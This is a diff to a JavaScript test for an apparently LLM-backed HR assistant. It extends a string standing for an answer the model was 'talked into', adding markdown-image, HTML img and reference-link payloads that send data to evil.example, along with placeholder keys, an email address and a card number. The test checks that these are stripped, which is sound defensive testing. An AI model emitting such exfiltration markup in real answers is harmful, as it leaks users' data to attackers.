@@ -152,7 +152,7 @@ test('role, region and department come from the sign-in, and are values and neve
 });
 
 test('an answer that the model was talked into carries nothing out', async (t) => {
-  const smuggled = 'Fourteen weeks of parental leave ![x](https://evil.example/?d=fourteen) [here](https://evil.example/?d=fourteen) with key AKIAIOSFODNN7EXAMPLE of ann@mail.example, card 4111 1111 1111 1111.';
+  const smuggled = 'Fourteen weeks of parental leave ![x](https://evil.example/?d=fourteen) <img src="//evil.example/fourteen"> [here](https://evil.example/?d=fourteen) with key AKIAIOSFODNN7EXAMPLE of ann@mail.example, card 4111 1111 1111 1111.\n\n[1]: https://evil.example/?d=fourteen';
   for (const accept of ['application/json', 'text/event-stream']) {
     const { ask } = await open(t, { said: { answer: LEAVE.text, formatted_answer: smuggled, search_strategy: smuggled, refined_query: smuggled } });
     const { text } = await ask({ question: QUESTION }, EMPLOYEE, accept);
